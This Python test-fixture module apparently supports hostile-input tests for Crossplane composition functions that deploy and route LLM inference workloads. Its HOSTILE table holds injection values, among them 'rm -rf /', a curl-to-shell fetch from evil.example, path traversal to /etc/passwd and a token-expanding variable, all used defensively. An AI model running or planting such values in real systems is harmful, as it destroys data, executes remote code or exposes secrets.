"""The hostile-input tests' world: the hostile values, the four functions each with a valid
XR and the world it needs, and the table of every user field that reaches a container or a
path (test_hostile_inputs.py runs them); and a ModelService routing two deployments on one
cluster, with the table of its fields that reach a route or a request to Crossplane."""

import copy
from collections.abc import Callable
from typing import Any

from compose_inference_cluster.fn import run_function as cluster_fn
from compose_model_cache.fn import CLUSTERS as CACHE_CLUSTERS
from compose_model_cache.fn import run_function as cache_fn
from compose_model_deployment.fn import CACHE as DEPLOYMENT_CACHE
from compose_model_deployment.fn import CLUSTERS as DEPLOYMENT_CLUSTERS
from compose_model_deployment.fn import REPLICAS as DEPLOYMENT_REPLICAS
from compose_model_deployment.fn import run_function as deployment_fn
from compose_model_replica.fn import CACHE as REPLICA_CACHE
from compose_model_replica.fn import CLUSTER as REPLICA_CLUSTER
from compose_model_replica.fn import run_function as replica_fn
from compose_model_service.fn import (
    SERVICES,
    cache_requirement,
    deployment_requirement,
    referenced_deployments,
)
from compose_model_service.fn import run_function as service_fn
from modelfleet_contracts.edge.requirements import cluster_requirement
from modelfleet_contracts.edge.runner import SafeRunner
from modelfleet_contracts.naming import workload_name
from modelfleet_contracts.serving import service_address
from modelfleet_devtools.world import H100, inference_cluster

HOSTILE = {
    "semicolon": "x; rm -rf /",
    "command substitution": "$(curl -s evil.example | sh)",
    "backticks": "`id`",
    "newline": "main\nrm -rf /",
    "flag": "--help",
    "flag with value": "--output=/etc/passwd",
    "path traversal": "../../etc/passwd",
    "very long": "a" * 5000,
    "unicode look-alike": "qwen\u2215qwen-\u0430dmin",  # division slash, Cyrillic a
    "NUL": "model\x00.bin",
    "glob": "*",
    "kubernetes variable": "$(HF_TOKEN)",
}


# -- the four functions, each with the world it needs ------------------------------------

RUNNERS = {
    "compose-inference-cluster": SafeRunner(cluster_fn, "compose-inference-cluster"),
    "compose-model-cache": SafeRunner(cache_fn, "compose-model-cache"),
    "compose-model-deployment": SafeRunner(deployment_fn, "compose-model-deployment"),
    "compose-model-replica": SafeRunner(replica_fn, "compose-model-replica"),
}


def _xr(kind: str, spec: dict[str, Any], namespaced: bool = True) -> dict[str, Any]:
    metadata = {"name": "kimi-k2", "namespace": "ml-team"} if namespaced else {"name": "gke-us"}
    return {
        "apiVersion": "modelfleet.io/v1alpha1",
        "kind": kind,
        "metadata": metadata,
        "spec": spec,
    }


CLUSTER_XR = _xr(
    "InferenceCluster",
    {
        "connection": {
            "kubeconfigSecretRef": {"namespace": "crossplane-system", "name": "kc", "key": "k"}
        },
        "workloadNamespace": "modelfleet",
        "storage": {
            "managed": {"provisioner": "NFS", "nfs": {"server": "10.0.0.2", "share": "/x"}}
        },
        "nodePools": [{k: v for k, v in H100.items()}],
    },
    namespaced=False,
)
HF_CACHE_XR = _xr(
    "ModelCache",
    {
        "source": "HuggingFace",
        "huggingFace": {
            "repo": "Qwen/Qwen3-0.6B",
            "revision": "main",
            "include": ["*.safetensors"],
            "exclude": ["original/*"],
            "tokenSecretRef": {"name": "hf", "key": "HF_TOKEN"},
        },
        "sizeGiB": 10,
        "storage": {"storageClassName": "fast-rwx"},
        "hydration": {"image": "ghcr.io/modelfleet/model-hydrator:0.1.0"},
    },
)
S3_CACHE_XR = _xr(
    "ModelCache",
    {
        "source": "S3",
        "s3": {
            "uri": "s3://bucket/prefix/",
            "endpoint": "https://minio.example:9000",
            "region": "us-east-1",
            "credentialsSecretRef": {"name": "s3-creds"},
        },
        "sizeGiB": 10,
    },
)
OCI_CACHE_XR = _xr(
    "ModelCache",
    {
        "source": "OCI",
        "oci": {
            "image": "ghcr.io/acme/llama-3.1-8b:1.0",
            "path": "/models",
            "include": ["*.safetensors"],
            "exclude": ["original/*"],
            "pullSecretRef": {"name": "regcred"},
        },
        "sizeGiB": 10,
    },
)
BYO_CACHE_XR = _xr(
    "ModelCache",
    {
        "source": "HuggingFace",
        "huggingFace": {"repo": "Qwen/Qwen3-0.6B"},
        "storage": {"existingClaimName": "shared-models"},
    },
)
ENGINE = {
    "framework": "Custom",
    "image": "vllm/vllm-openai:v0.33.0",
    "command": ["python3", "-m", "server"],
    "args": ["--port=8000"],
    "env": [{"name": "MODEL_FLAG", "value": "on"}],
    "port": 8000,
    "worker": {"command": ["python3", "-m", "worker"], "args": ["--rank=1"]},
}
DEPLOYMENT_XR = _xr(
    "ModelDeployment",
    {"replicas": 1, "modelCacheRef": {"name": "kimi-k2"}, "engine": copy.deepcopy(ENGINE)},
)


def replica_xr(nodes: int, framework: str) -> dict[str, Any]:
    engine = copy.deepcopy(ENGINE)
    if framework == "vLLM":
        engine = {"framework": "vLLM", "image": ENGINE["image"], "args": ["--max-model-len=8192"]}
        engine["env"] = copy.deepcopy(ENGINE["env"])
    return _xr(
        "ModelReplica",
        {
            "clusterName": "gke-us",
            "replicas": 1,
            "nodes": nodes,
            "gpusPerNode": 8,
            "nodePool": "h100",
            "nodeSelector": dict(H100["nodeSelector"]),
            "tolerations": copy.deepcopy(H100["tolerations"]),
            "modelCacheRef": {"name": "kimi-k2"},
            "engine": engine,
        },
    )


def _ready_cache(path: str = "abc123def456") -> dict[str, Any]:
    row = {
        "name": "gke-us",
        "phase": "Ready",
        "claimName": "modelcache-ml-team-kimi-k2-1a2b3",
        "path": path,
        "fingerprint": "abc123def456",
    }
    cache = copy.deepcopy(HF_CACHE_XR)
    cache["status"] = {"clusters": [row], "summary": {"ready": "1/1"}}
    return cache


def required_for(function: str, cache_path: str | None = None) -> dict[str, list[dict[str, Any]]]:
    cluster = inference_cluster("gke-us")
    return {
        "compose-inference-cluster": {},
        "compose-model-cache": {CACHE_CLUSTERS: [cluster]},
        "compose-model-deployment": {
            DEPLOYMENT_CLUSTERS: [cluster],
            DEPLOYMENT_REPLICAS: [],
            DEPLOYMENT_CACHE: [_ready_cache()],
        },
        "compose-model-replica": {
            REPLICA_CLUSTER: [cluster],
            REPLICA_CACHE: [_ready_cache(cache_path or "abc123def456")],
        },
    }[function]


# -- every user string that reaches a container or a path --------------------------------

Setter = Callable[[dict[str, Any], str], None]
IC, MC, MD, MR = (
    "compose-inference-cluster",
    "compose-model-cache",
    "compose-model-deployment",
    "compose-model-replica",
)
POOL_LABEL = "cloud.google.com/gke-nodepool"
REPLICA_CUSTOM, REPLICA_VLLM = replica_xr(1, "Custom"), replica_xr(1, "vLLM")
GANG_CUSTOM, GANG_VLLM = replica_xr(2, "Custom"), replica_xr(2, "vLLM")


def at(path: str, *tail: str) -> Setter:
    """Set the value at a dotted path (numbers index lists); `tail` holds keys with dots."""
    steps: list[Any] = [int(p) if p.isdigit() else p for p in path.split(".")] + list(tail)

    def put(xr: dict[str, Any], value: str) -> None:
        node = xr
        for step in steps[:-1]:
            node = node[step]
        node[steps[-1]] = value

    return put


# (field as a user writes it, function, base XR, where the value goes)
TARGETS: list[tuple[str, str, dict[str, Any], Setter]] = [
    ("huggingFace.repo", MC, HF_CACHE_XR, at("spec.huggingFace.repo")),
    ("huggingFace.revision", MC, HF_CACHE_XR, at("spec.huggingFace.revision")),
    ("huggingFace.include[]", MC, HF_CACHE_XR, at("spec.huggingFace.include.0")),
    ("huggingFace.exclude[]", MC, HF_CACHE_XR, at("spec.huggingFace.exclude.0")),
    ("tokenSecretRef.name", MC, HF_CACHE_XR, at("spec.huggingFace.tokenSecretRef.name")),
    ("tokenSecretRef.key", MC, HF_CACHE_XR, at("spec.huggingFace.tokenSecretRef.key")),
    ("s3.uri", MC, S3_CACHE_XR, at("spec.s3.uri")),
    ("s3.endpoint", MC, S3_CACHE_XR, at("spec.s3.endpoint")),
    ("s3.region", MC, S3_CACHE_XR, at("spec.s3.region")),
    ("s3.credentialsSecretRef.name", MC, S3_CACHE_XR, at("spec.s3.credentialsSecretRef.name")),
    ("oci.image", MC, OCI_CACHE_XR, at("spec.oci.image")),
    ("oci.path", MC, OCI_CACHE_XR, at("spec.oci.path")),
    ("oci.pullSecretRef.name", MC, OCI_CACHE_XR, at("spec.oci.pullSecretRef.name")),
    ("oci.include[]", MC, OCI_CACHE_XR, at("spec.oci.include.0")),
    ("oci.exclude[]", MC, OCI_CACHE_XR, at("spec.oci.exclude.0")),
    ("storage.storageClassName", MC, HF_CACHE_XR, at("spec.storage.storageClassName")),
    ("storage.existingClaimName", MC, BYO_CACHE_XR, at("spec.storage.existingClaimName")),
    ("hydration.image", MC, HF_CACHE_XR, at("spec.hydration.image")),
    ("ModelCache metadata.name", MC, HF_CACHE_XR, at("metadata.name")),
    ("ModelCache metadata.namespace", MC, HF_CACHE_XR, at("metadata.namespace")),
    ("ModelCache name (shared claim)", MC, BYO_CACHE_XR, at("metadata.name")),
    ("engine.image", MR, REPLICA_CUSTOM, at("spec.engine.image")),
    ("engine.command[]", MR, REPLICA_CUSTOM, at("spec.engine.command.2")),
    ("engine.args[] (Custom)", MR, REPLICA_CUSTOM, at("spec.engine.args.0")),
    ("engine.args[] (vLLM)", MR, REPLICA_VLLM, at("spec.engine.args.0")),
    ("engine.args[] (vLLM gang leader)", MR, GANG_VLLM, at("spec.engine.args.0")),
    ("engine.worker.args[]", MR, GANG_CUSTOM, at("spec.engine.worker.args.0")),
    ("engine.env[].name", MR, REPLICA_CUSTOM, at("spec.engine.env.0.name")),
    ("engine.env[].value", MR, GANG_VLLM, at("spec.engine.env.0.value")),
    ("engine.port", MR, REPLICA_VLLM, at("spec.engine.port")),
    ("ModelReplica nodePool", MR, GANG_VLLM, at("spec.nodePool")),
    (
        "ModelReplica nodeSelector value",
        MR,
        REPLICA_VLLM,
        at("spec.nodeSelector", "cloud.google.com/gke-nodepool"),
    ),
    ("ModelReplica metadata.name", MR, GANG_VLLM, at("metadata.name")),
    ("ModelReplica metadata.namespace", MR, REPLICA_VLLM, at("metadata.namespace")),
    ("ModelDeployment engine.args[]", MD, DEPLOYMENT_XR, at("spec.engine.args.0")),
    ("ModelDeployment modelCacheRef.name", MD, DEPLOYMENT_XR, at("spec.modelCacheRef.name")),
    ("ModelDeployment metadata.name", MD, DEPLOYMENT_XR, at("metadata.name")),
    ("ModelDeployment metadata.namespace", MD, DEPLOYMENT_XR, at("metadata.namespace")),
    ("InferenceCluster metadata.name", IC, CLUSTER_XR, at("metadata.name")),
    ("workloadNamespace", IC, CLUSTER_XR, at("spec.workloadNamespace")),
    ("nodePools[].name", IC, CLUSTER_XR, at("spec.nodePools.0.name")),
    ("kubeconfigSecretRef.name", IC, CLUSTER_XR, at("spec.connection.kubeconfigSecretRef.name")),
    ("kubeconfigSecretRef.key", IC, CLUSTER_XR, at("spec.connection.kubeconfigSecretRef.key")),
    ("storage.managed.nfs.server", IC, CLUSTER_XR, at("spec.storage.managed.nfs.server")),
    ("storage.managed.nfs.share", IC, CLUSTER_XR, at("spec.storage.managed.nfs.share")),
]


# -- a ModelService: every user string that reaches a route or a request to Crossplane -----

SERVICE_RUNNER = SafeRunner(service_fn, "compose-model-service")
SERVICE_CLUSTER = "gke-us"
SERVED_NAME = "qwen3-0.6b"
SERVICE_XR = _xr(
    "ModelService",
    {
        "modelName": SERVED_NAME,
        "backends": [
            {"modelDeploymentRef": {"name": "qwen3-stable"}, "weight": 90},
            {"modelDeploymentRef": {"name": "qwen3-canary"}, "weight": 10},
        ],
    },
)


def _serving_deployment(name: str) -> dict[str, Any]:
    """A ModelDeployment serving SERVED_NAME, Ready on SERVICE_CLUSTER at its Service."""
    service = workload_name("ml-team", f"{name}-{SERVICE_CLUSTER}")
    row = {
        "name": SERVICE_CLUSTER,
        "replicas": 1,
        "nodes": 1,
        "phase": "Ready",
        "address": service_address(service, "modelfleet", 8000),
    }
    xr = _xr("ModelDeployment", {"replicas": 1, "modelCacheRef": {"name": "kimi-k2"}})
    xr["metadata"]["name"] = name
    xr["status"] = {"servedModelName": SERVED_NAME, "clusters": [row]}
    return xr


def _cluster_with_gateway() -> dict[str, Any]:
    ic = inference_cluster(SERVICE_CLUSTER)
    gateway = {"name": "inference", "namespace": "gateway-system"}
    ic["status"]["gateway"] = {**gateway, "ready": True, "address": "10.0.0.7"}
    ic["status"]["conditions"].append(
        {"type": "GatewayReady", "status": "True", "reason": "Programmed", "message": "ok"}
    )
    return ic


def service_required(xr: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    """What Crossplane resolves for the ModelService `xr` asks for: the two deployments of
    SERVICE_XR (a name it names that is neither does not exist), their cache, the cluster."""
    serving = {name: _serving_deployment(name) for name in ("qwen3-stable", "qwen3-canary")}
    required: dict[str, list[dict[str, Any]]] = {SERVICES: [xr]}
    for name in referenced_deployments(xr):
        required[deployment_requirement(name)] = [serving[name]] if name in serving else []
    required[cache_requirement("kimi-k2")] = [_ready_cache()]
    required[cluster_requirement(SERVICE_CLUSTER)] = [_cluster_with_gateway()]
    return required


# (field as a user writes it, where the value goes in SERVICE_XR)
SERVICE_TARGETS: list[tuple[str, Setter]] = [
    ("modelName", at("spec.modelName")),
    ("backends[].modelDeploymentRef.name", at("spec.backends.0.modelDeploymentRef.name")),
    ("backends[].modelDeploymentRef.namespace", at("spec.backends.1.modelDeploymentRef.namespace")),
    ("ModelService metadata.name", at("metadata.name")),
]
